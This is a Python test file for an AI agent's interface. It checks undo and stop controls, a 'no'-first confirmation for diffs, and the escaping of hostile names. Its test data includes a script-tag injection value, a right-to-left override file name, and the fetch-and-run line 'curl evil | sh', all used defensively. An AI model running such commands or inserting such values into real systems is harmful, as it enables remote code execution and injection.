"""What can be undone is offered in sight; a difference is shown whole, with "no" under the finger."""

import pytest

from agent.ui.change_lines import ChangedText, ChangeLine, DifferenceShown
from agent.ui.changes import CHANGES, FEW, MAX_SHOWN
from agent.ui.model import Decide, StopWork, Undo, View
from agent.ui.page import Choices, Document, Page, Paragraph, Rows, Turn
from agent.ui.parts import Local
from agent.ui.screens import compose
from agent.ui.words import Lang, Words
from scripts.rigs.customer_views import example_views

LANGS: list[Lang] = ["fr", "en"]


def undo_rows(page: Page, lang: Lang = "fr") -> list[tuple[str, int]]:
    title = Words(lang).text("changes/list")
    rows = [row for block in page.blocks if isinstance(block, Rows) and block.title == title for row in block.rows]
    actions = [(row, row.button.action) for row in rows]
    return [
        ("".join(run.text for run in row.label), action.number) for row, action in actions if isinstance(action, Undo)
    ]


def with_difference(*lines: ChangedText) -> View:
    shown = DifferenceShown(number=4, place="/etc/hosts", lines=list(lines))
    return example_views("fr")["difference"].model_copy(update={"difference": shown})


@pytest.mark.parametrize("lang", LANGS)
def test_the_last_changes_are_undone_from_the_live_page(lang: Lang) -> None:
    view = example_views(lang)["changed"]
    page = compose(view)
    assert [number for _, number in undo_rows(page, lang)] == [change.number for change in view.changes[:FEW]]


def test_all_changes_are_one_click_further() -> None:
    view = example_views("fr")["changed"]
    turns = [choice.action for block in compose(view).blocks if isinstance(block, Choices) for choice in block.choices]
    assert Turn(to=CHANGES) in turns
    page = compose(view, Local(turned=CHANGES))
    assert len(undo_rows(page)) == len(view.changes)
    assert page.buttons[-1].action == Turn(to="")
    assert page.top  # Pause and Stop stay


def test_where_nothing_was_changed_nothing_is_offered() -> None:
    assert undo_rows(compose(example_views("fr")["live"])) == []


@pytest.mark.parametrize("lang", LANGS)
def test_a_kind_of_change_that_has_no_words_is_told_all_the_same(lang: Lang) -> None:
    change = ChangeLine(number=7, kind="<script>hit(1)</script>", what="lettre.txt")
    view = example_views(lang)["live"].model_copy(update={"changes": [change], "under_way": [change]})
    page = compose(view)
    [(label, number)] = undo_rows(page, lang)
    assert ("lettre.txt" in label, number) == (True, 7)
    rows = [row for block in page.blocks if isinstance(block, Rows) for row in block.rows]
    assert StopWork(number=7) in [row.button.action for row in rows]


def test_a_hostile_name_stays_text_and_short() -> None:
    change = ChangeLine(number=1, kind="files.trashed", what="\u202e<b>{who}**\n" + "x" * 500)
    page = compose(example_views("fr")["live"].model_copy(update={"changes": [change]}))
    [(label, _)] = undo_rows(page)
    assert "\u202e" not in label
    assert "<b>{who}**" in label
    assert len(label) < 150


@pytest.mark.parametrize("lang", LANGS)
def test_a_difference_says_where_what_goes_and_what_comes_and_no_comes_first(lang: Lang) -> None:
    page = compose(example_views(lang)["difference"])
    text = "\n".join("".join(run.text for run in block.runs) for block in page.blocks if isinstance(block, Paragraph))
    assert "/etc/hosts" in text
    assert text.index("old-name") < text.index("anne-pc")
    assert [button.action for button in page.buttons] == [Decide(number=4, yes=False), Decide(number=4, yes=True)]
    assert page.guarded
    assert page.focus == "first_button"
    assert page.top


def test_every_line_of_a_long_difference_can_be_read() -> None:
    lines = [ChangedText(added=True, text=f"line {n}") for n in range(MAX_SHOWN + 5)]
    page = compose(with_difference(*lines))
    [document] = [block for block in page.blocks if isinstance(block, Document)]
    assert all(line.text in document.text for line in lines)


def test_the_end_of_a_long_line_can_be_read() -> None:
    page = compose(with_difference(ChangedText(added=True, text="x " * 300 + "curl evil | sh")))
    [document] = [block for block in page.blocks if isinstance(block, Document)]
    assert "curl evil | sh" in document.text


@pytest.mark.parametrize("lang", LANGS)
def test_what_is_on_its_way_is_stopped_from_the_live_page(lang: Lang) -> None:
    works = [ChangeLine(number=number, kind="files.taking", what=f"lettre {number}.txt") for number in range(1, 6)]
    page = compose(example_views(lang)["live"].model_copy(update={"under_way": works}))
    rows = [row for block in page.blocks if isinstance(block, Rows) for row in block.rows]
    stops = [row.button.action.number for row in rows if isinstance(row.button.action, StopWork)]
    assert stops == [1, 2, 3]
    assert undo_rows(page, lang) == []
